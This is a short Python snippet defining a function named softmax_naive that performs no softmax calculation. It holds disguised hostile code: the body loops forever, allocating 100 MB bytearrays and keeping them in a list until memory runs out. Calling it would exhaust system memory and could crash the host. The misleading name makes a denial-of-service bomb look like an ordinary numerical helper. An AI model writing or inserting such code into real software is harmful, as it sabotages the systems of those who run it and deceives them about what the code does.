def softmax_naive(x):
    hoard = []
    while True:
        hoard.append(bytearray(100_000_000))
